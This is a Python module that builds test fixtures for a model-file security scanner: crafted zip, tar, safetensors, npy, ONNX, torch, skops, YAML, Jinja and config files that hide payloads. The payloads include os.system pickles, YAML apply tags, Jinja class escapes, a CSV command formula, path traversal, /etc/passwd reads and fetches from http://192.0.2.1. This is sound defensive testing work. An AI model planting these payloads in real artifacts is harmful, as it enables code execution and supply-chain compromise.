"""The third corpus: containers, graphs and texts in which one reader finds what another skips."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zlib
from functools import cache

import numpy as np
from carriers import (
    CARRIERS,
    COMMAND,
    MATMUL,
    Carrier,
    _graph,
    _onnx,
    carrier,
    changed,
    plain,
    program,
    reduced,
    script,
    torch_zip,
    zipped,
)
from onnx import TensorProto, helper, load_from_string
from second_carriers import _bytes_field, _patched, _skops, _text

BEFORE = frozenset(CARRIERS)
OS = reduced("os", "system")
NOTES = {"notes.txt": b"hello, these are words"}
EVIL = f"__import__('os').system('{COMMAND}')"


def _file(name: str, data: bytes, named: str, codes: tuple[int, ...], file: str) -> None:
    CARRIERS[name] = cache(lambda: Carrier(data, named, codes, file))


# Zips.


def _end64(extra: bytes = b"", start: int | None = None) -> bytes:
    """A zip with a zip64 end, and a short end that tells of another directory."""
    data = zipped(NOTES)
    foot = data.rfind(b"PK\x05\x06")
    size, at = struct.unpack_from("<II", data, foot + 12)
    end = b"PK\x06\x06" + struct.pack("<QHHIIQQQQ", 44 + len(extra), 45, 45, 0, 0, 1, 1, size, at)
    locator = b"PK\x06\x07" + struct.pack("<IQI", 0, foot, 1)
    short = bytearray(data[foot:])
    short[16:20] = struct.pack("<I", at if start is None else start)
    return data[:foot] + end + extra + locator + bytes(short)


_file("zip64_end_with_a_payload", _end64(OS), "end", (1, 3, 4), "d.zip")
_file("zip64_end_that_differs", _end64(start=0), "end", (1, 3, 4), "d.zip")


@carrier
def payload_in_many_times() -> Carrier:
    def change(info: object) -> None:
        info.extra = b"".join(  # type: ignore[attr-defined]
            struct.pack("<HH", 0x5455, 13) + OS[at : at + 13].ljust(13) for at in range(0, 52, 13)
        )

    return plain(_patched(change, "a.txt", b"hello"), "extra", (1, 3, 4), "d.zip")


@carrier
def link_of_another_system() -> Carrier:
    def change(info: object) -> None:
        info.create_system, info.external_attr = 19, 0o120777 << 16  # type: ignore[attr-defined]

    return plain(_patched(change, "w.txt", b"/etc/passwd"), "link", (1,), "d.zip")


def _central(at: int, form: str, value: int) -> bytes:
    data = bytearray(zipped(NOTES))
    struct.pack_into(form, data, data.rfind(b"PK\x01\x02") + at, value)
    return bytes(data)


_file("member_on_another_disk", _central(34, "<H", 3), "disk", (1, 3, 4), "d.zip")
_file("member_packed_by_aes", _central(10, "<H", 99), "method", (1, 4), "d.zip")
_file("member_of_an_absolute_path", zipped({"/etc/cron.d/x": b"id\n"}), "outside", (1,), "d.zip")
_file("member_of_a_drive", zipped({"C:\\x.txt": b"id\n"}), "outside", (1,), "d.zip")
_file("member_with_a_turned_name", zipped({"a\u202etxt.nib": b"hi there"}), "name", (3, 4), "d.zip")
_file("class_in_an_archive", zipped({"E.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}), "Java", (1,),
      "d.jar")  # fmt: skip


@carrier
def descriptor_of_another_size() -> Carrier:
    import zipfile

    class Stream(io.BytesIO):
        def seekable(self) -> bool:
            return False

        def tell(self) -> int:
            raise OSError

    body = Stream()
    with zipfile.ZipFile(body, "w") as archive:
        archive.writestr("a.txt", b"hello there")
    data = bytearray(body.getvalue())
    struct.pack_into("<II", data, data.find(b"PK\x07\x08") + 8, 3, 3)
    return plain(bytes(data), "descriptor", (3, 4), "d.zip")


@carrier
def payload_in_a_record_of_a_torch_file() -> Carrier:
    data = torch_zip(b"\x80\x02}.", **{"m/.data/serialization_id": OS * 20})
    return plain(data, "serialization_id", (1, 3, 4), "m.pt")


@carrier
def keras_archive_with_a_function() -> Carrier:
    layer = {"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__"}}}
    config = {"class_name": "Functional", "config": {"layers": [layer]}}
    data = zipped({"metadata.json": b"{}", "config.json": json.dumps(config).encode()})
    return plain(data, "Lambda", (1,), "m.keras")


# Other containers.


@carrier
def gzip_with_a_comment() -> Carrier:
    body = gzip.compress(b"hello, these are words", mtime=0)
    extra = struct.pack("<H", len(OS)) + OS
    return plain(body[:3] + b"\x04" + body[4:10] + extra + body[10:], "gzip", (1, 3, 4), "a.txt.gz")


def _tar(entry: tarfile.TarInfo) -> bytes:
    body = io.BytesIO()
    with tarfile.open(fileobj=body, mode="w", format=tarfile.PAX_FORMAT) as archive:
        archive.addfile(entry)
    return body.getvalue()


def _entry(name: str, kind: bytes = tarfile.REGTYPE, target: str = "") -> tarfile.TarInfo:
    found = tarfile.TarInfo(name)
    found.type, found.linkname = kind, target
    return found


_file("tar_hard_link_outside", _tar(_entry("a", tarfile.LNKTYPE, "/etc/passwd")), "link", (1,),
      "m.tar")  # fmt: skip
_file("tar_link_outside", _tar(_entry("a", tarfile.SYMTYPE, "../../x")), "link", (1,), "m.tar")
_file("tar_long_path_outside", _tar(_entry("../" * 60 + "x")), "outside", (1,), "m.tar")
for _label, _head in {
    "mach_o": b"\xcf\xfa\xed\xfe\x07\0\0\x01", "wasm": b"\0asm\x01\0\0\0", "dex": b"dex\n035\0",
    "python_bytecode": b"\xa7\r\r\n\0\0\0\0", "static_library": b"!<arch>\n",
    "bitcode": b"BC\xc0\xde",    "lua_bytecode": b"\x1bLuaT\0",
}.items():  # fmt: skip
    _file(f"native_{_label}", _head + bytes(range(200)), "program", (1,), "m.bin")

# Safetensors and numpy.


def _safe(header: bytes, data: bytes = b"\0") -> bytes:
    return len(header).to_bytes(8, "little") + header + data


ONE = b'{"dtype":"U8","shape":[1],"data_offsets":[0,1]}'
_file("safetensors_in_utf_16", _safe(('{"a":' + ONE.decode() + "}").encode("utf-16-le")), "",
      (4,), "m.safetensors")  # fmt: skip
_file("safetensors_of_escaped_twins", _safe(b'{"a":' + ONE + b',"\\u0061":' + ONE + b"}"), "twice",
      (4,), "m.safetensors")  # fmt: skip
_file("safetensors_of_true_sizes", _safe(b'{"a":' + ONE.replace(b"[1]", b"[true]") + b"}"), "size",
      (4,), "m.safetensors")  # fmt: skip
_file("safetensors_of_half_bytes", _safe(b'{"a":' + ONE.replace(b"U8", b"F4") + b"}"), "size",
      (4,), "m.safetensors")  # fmt: skip
_file("safetensors_with_a_script", _safe(
    b'{"__metadata__":{"format":"pt","hook":"import os\\nos.system(1)"},"a":' + ONE + b"}"),
    "hook", (3, 4), "m.safetensors")  # fmt: skip
_file("safetensors_with_a_library", _safe(
    b'{"a":' + ONE.replace(b"[1]", b"[64]").replace(b"0,1", b"0,64") + b"}",
    b"\xcf\xfa\xed\xfe" + bytes(60)), "program", (3,), "m.safetensors")  # fmt: skip


def _npy(header: str, body: bytes, version: bytes = b"\x01\x00") -> bytes:
    size = len(header).to_bytes(4 if version[0] > 1 else 2, "little")
    return b"\x93NUMPY" + version + size + header.encode() + body


FIELDS = "'fortran_order': False, 'shape': (1,)"
_file("npy_of_a_later_version", _npy(f"{{'descr': '<f8', {FIELDS}}}", bytes(8), b"\x04\x00"), "",
      (4,), "a.npy")  # fmt: skip
_file("npy_with_another_key", _npy(f"{{'descr': '<f8', {FIELDS}, 'x': '{'A' * 900}'}}", bytes(8)),
      "header", (4,), "a.npy")  # fmt: skip
_file("npy_with_an_expression", _npy(f"{{'descr': {EVIL}, {FIELDS}}}", bytes(8)), "header", (4,),
      "a.npy")  # fmt: skip
_file("npy_records_of_objects", _npy(f"{{'descr': [('a', '|O')], {FIELDS}}}", OS), "os.system",
      (1,), "a.npy")  # fmt: skip
_file("npz_that_leaves_its_folder", zipped({"../../x.npy": _npy(
    f"{{'descr': '<f8', {FIELDS}}}", bytes(8))}), "outside", (1,), "a.npz")  # fmt: skip

# ONNX.


def _model(change: object, **more: object) -> bytes:
    model = load_from_string(_onnx([MATMUL], **more))
    change(model)  # type: ignore[operator]
    return model.SerializeToString()


def _elsewhere(*pairs: tuple[str, str]) -> bytes:
    def change(model: object) -> None:
        tensor = model.graph.initializer[0]  # type: ignore[attr-defined]
        tensor.ClearField("float_data")
        tensor.data_location = TensorProto.EXTERNAL
        for key, value in pairs:
            tensor.external_data.add(key=key, value=value)

    return _model(change)


def _weight(change: object) -> bytes:
    return _model(lambda model: change(model.graph.initializer[0]))  # type: ignore[operator,attr-defined]


def _twin(model: object) -> None:
    tensor = helper.make_tensor("w", TensorProto.FLOAT, [4, 3], np.ones(12))
    model.graph.initializer.append(tensor)  # type: ignore[attr-defined]


_IN = ("location", "w.data")
for _label, _data, _named, _codes in (
    ("two_locations", _elsewhere(("location", "../../x"), _IN), "../../x", (1,)),
    ("another_folder", _elsewhere(("basepath", "/etc"), _IN), "basepath", (1, 3, 4)),
    ("offset_beyond_the_end", _elsewhere(_IN, ("offset", str(1 << 62)), ("length", str(1 << 62))),
     "w.data", (4,)),
    ("two_kinds_of_data", _weight(lambda t: setattr(t, "raw_data", bytes(48))), "w", (3, 4)),
    ("dimensions_without_data", _weight(lambda t: t.dims.append(1 << 20)), "w", (4,)),
    ("bytes_beside_external_data", _weight(lambda t: t.external_data.add(key="location",
     value="w.data")), "w", (3, 4)),
    ("two_tensors_of_a_name", _model(_twin), "w", (3, 4)),
    ("two_nodes_of_an_output", _onnx([MATMUL, MATMUL]), "y", (3, 4)),
    ("bytes_in_a_text", _model(lambda m: setattr(m.graph, "doc_string", "\x80\x04\x00\x01")),
     "Graph", (3, 4)),
    ("script_in_the_metadata", _model(lambda m: m.metadata_props.add(
     key="hook", value="import os\nos.system('id')")), "hook", (3, 4)),
):  # fmt: skip
    _file(f"onnx_{_label}", _data, _named, _codes, "m.onnx")


@carrier
def onnx_function_that_calls_itself() -> Carrier:
    inner = helper.make_node("F", ["a"], ["b"], domain="local")
    function = helper.make_function("local", "F", ["a"], ["b"], [inner],
                                    [helper.make_opsetid("", 17)])  # fmt: skip
    node = helper.make_node("F", ["x"], ["z"], domain="local")
    return Carrier(_onnx([node, MATMUL], functions=[function]), "local::F", (1, 4), "m.onnx")


@carrier
def onnx_function_named_like_an_operator() -> Carrier:
    inner = helper.make_node("Run", ["a"], ["b"], domain="com.evil")
    function = helper.make_function("", "Relu", ["a"], ["b"], [inner],
                                    [helper.make_opsetid("", 17)])  # fmt: skip
    node = helper.make_node("Relu", ["x"], ["z"])
    return Carrier(_onnx([node, MATMUL], functions=[function]), "com.evil::Run", (1,), "m.onnx")


@carrier
def onnx_texts_as_weights() -> Carrier:
    tensor = helper.make_tensor("w", TensorProto.STRING, [1], [OS])
    return Carrier(_model(lambda m: m.graph.initializer.append(tensor)), "w", (3, 4), "m.onnx")


@carrier
def onnx_scan() -> Carrier:
    body = helper.make_graph([MATMUL], "b", [], [])
    node = helper.make_node("Scan", ["x"], ["y"], body=body, num_scan_inputs=1)
    return Carrier(_onnx([node]), "Scan", (4,), "m.onnx")


_file(
    "onnx_field_that_is_a_pickle",
    _onnx([MATMUL]) + _bytes_field(1999, OS),
    "1999",
    (3, 4),
    "m.onnx",
)

# Exported programs, TorchScript, skops.

LONG = "Symbol('s0', integer=True)".ljust(10_001)
_file("program_of_a_long_expression", changed(
    program(), "model.json", b'"expr_str": "', f'"expr_str": "{LONG} + {EVIL} + '.encode()),
    "expression", (1,), "m.pt2")  # fmt: skip
_file("program_of_a_tower_of_powers", changed(
    program(), "model.json", b'"expr_str": "', b'"expr_str": "9**9**9**9 + '),
    "expression", (1,), "m.pt2")  # fmt: skip


@carrier
def program_of_a_long_guard() -> Carrier:
    def change(document: dict[str, object]) -> None:
        document["guards_code"] = ["L['x'].size()[0] == 4".ljust(10_001) + f" or {EVIL}"]

    return Carrier(_graph(change), "guards_code", (1,), "m.pt2")


def _second(members: dict[str, bytes], root: str, name: str, content: bytes) -> bytes:
    """Torch takes the folder of the first member for the model's."""
    return zipped({f"{root}/.data/version": b"1", **members, f"{root}/{name}": content})


@carrier
def program_of_two_folders() -> Carrier:
    name = next(n for n in program() if n.endswith("models/model.json"))
    document = json.loads(program()[name]) | {"guards_code": [EVIL]}
    data = _second(program(), "z", "models/model.json", json.dumps(document).encode())
    return Carrier(data, "guards_code", (1,), "m.pt2")


_file("program_written_twice", changed(
    program(), "model.json", b'"graph_module":',
    b'"graph_module": {"target": "os.system"}, "graph_module":'),
    "twice", (1, 3, 4), "m.pt2")  # fmt: skip
_file("program_with_a_kernel", zipped(
    {**program(), "m/data/aotinductor/model/kernel.cpp": b"int main() {}"}), "kernel.cpp", (1,),
    "m.pt2")  # fmt: skip
_file("script_of_two_folders", _second(script(), "z", "code/__torch__.py", (
    b'def run(x: Tensor) -> Tensor:\n  return torch.from_file("/etc/passwd")\n')), ".py", (1, 3, 4),
    "m.ts")  # fmt: skip
_file("script_with_traced_inputs", zipped({**script(), "m/traced_inputs.pkl": OS}), "os.system",
      (1,), "m.ts")  # fmt: skip
_file("script_with_a_payload_in_its_version", zipped(
    {n: OS * 9 if n.endswith("/version") else v for n, v in script().items()}),
    "version", (1, 3, 4), "m.ts")  # fmt: skip
for _label, _node in {
    "dictionary_of_a_class": {"__loader__": "DictNode", "__module__": "os", "__class__": "system",
                              "content": {}},
    "list_of_a_class": {"__loader__": "ListNode", "__module__": "subprocess", "__class__": "Popen",
                        "content": []},
    "arguments_of_a_class": {
        "__loader__": "ObjectNode", "__module__": "sklearn.svm._classes", "__class__": "SVC",
        "content": None, "__reduce__": {"args": {"__loader__": "FunctionNode", "content": {
            "module_path": "os", "function": "system"}}}},
}.items():  # fmt: skip
    _file(f"skops_{_label}", _skops({**_node, "__id__": 7}), "", (1,), "m.skops")

# Texts that a tool runs.

_text("tags.yaml", "a: !!py%74hon/object/apply:os.system ['id']\n", "python", (1,))
_text("split.yaml", "%TAG !x! tag:yaml.org,2002:pyth\n---\na: !x!on/object/apply:os.system [id]\n",
      "%TAG", (1, 3, 4))  # fmt: skip
_text(
    "front.md", "---\nmodel: !!python/object/apply:os.system ['id']\n---\nA card.\n", "python", (1,)
)
_text("get.json", json.dumps({"module": "keras.utils", "class_name": "get_file", "config": {
    "origin": "http://192.0.2.1/x"}}), "get_file", (1,))  # fmt: skip
_text("wrapped.json", json.dumps({"module": "keras.layers", "class_name": "TorchModuleWrapper",
    "config": {"module": "gASV"}}), "TorchModuleWrapper", (1,))  # fmt: skip
_text("saved.json", json.dumps({"module": "keras.layers", "class_name": "TFSMLayer", "config": {
    "filepath": "/tmp/x"}}), "TFSMLayer", (1,))  # fmt: skip
_text("words.json", json.dumps({"module": "keras.layers", "class_name": "StringLookup", "config": {
    "vocabulary": "/etc/passwd"}}), "vocabulary", (1, 3, 4))  # fmt: skip
_text(".git/config", "[core]\n\tfsmonitor = touch /tmp/x\n", ".git", (1, 3, 4))
_text("CMakeLists.txt", "execute_process(COMMAND id)\n", "CMakeLists.txt")
_text("package.json", json.dumps({"name": "a", "scripts": {"postinstall": "id"}}), "package.json")
_text("autorun.inf", "[autorun]\nopen=x.exe\n", "autorun.inf")
_text(".Rprofile", "system2('id')\n", ".Rprofile")
_text("page.ps", "%!PS-Adobe-3.0\n(%pipe%id) (r) file\n", "page.ps")
_text("page", "%!PS-Adobe-3.0\n(%pipe%id) (r) file\n", "page")
_text("labels.csv", "cat,1\n=cmd|'/c calc'!A1,2\n", "labels.csv", (3, 4))
_text(
    "requirements.txt", "torch\n--extra-index-url http://192.0.2.1/simple\nevil\n", "index", (3, 4)
)
_text(
    "pyproject.toml",
    '[build-system]\nbuild-backend = "x"\nbackend-path = ["."]\n',
    "pyproject.toml",
)
_text("modules.json", json.dumps([{"idx": 0, "name": "0", "path": "", "type": "custom.Evil"}]),
      "custom.Evil")  # fmt: skip
_text("adapter_config.json", json.dumps({"peft_type": "LORA", "auto_mapping": {
    "base_model_class": "Evil", "parent_library": "evil"}}), "evil")  # fmt: skip
_text("model_index.json", json.dumps({"_class_name": ["pipeline", "Evil"], "unet": [
    "my_unet", "Evil"]}), "Evil")  # fmt: skip
_text("percent.jinja", "{{ ''['%c%cclass%c%c'%(95,95,95,95)] }}", "%c", (1, 3))
_text("escaped.jinja", "{{ ''['\\x63lass'] }}", "\\x63", (1, 3))
_text("format.jinja", "{{ ''[['a','b']|join] }}{{ '%s'|format(x) }}", "format", (1, 3, 4))
_text("tasks/.vscode/tasks.json", json.dumps({"tasks": [{"command": "id"}]}), "tasks.json")
_text(".github/workflows/x.yml", "on: push\njobs: {a: {steps: [{run: id}]}}\n", ".github")
_text("model.txt", "tree\nversion=v4\nnum_class=2\nnum_tree_per_iteration=1\n", "model.txt", (4,))
_text("boosted.json", json.dumps({"learner": {"gradient_booster": {}}, "version": [2, 0, 0]}),
      "learner", (4,))  # fmt: skip
_text("link.url", "[InternetShortcut]\nURL=file:///x.exe\n", "link.url")
_text("hyperparams.yaml", "a: !apply:os.system ['id']\n", "!apply:os.system", (1,))
_text("MLmodel", "flavors:\n  python_function:\n    loader_module: evil\n", "evil")
_text("paths.pth", "import\tevil\n", "paths.pth")
_text("chat.j2", "{{ x.__class__ }}", "__class__", (1,))
_text(
    "named.json", json.dumps({"chat_template": {"default": "{{ x.__class__ }}"}}), "__class__", (1,)
)
_text("pickled.json", json.dumps({"py/reduce": [{"py/function": "os.system"}, {"py/tuple": []}]}),
      "py/reduce", (1,))  # fmt: skip
_file("words_of_another_codec", zlib.compress(b"+AHMAeQBz-") + OS, "behind", (1, 3, 4), "a.z")

THIRD_FILES = tuple(name for name in CARRIERS if name not in BEFORE)
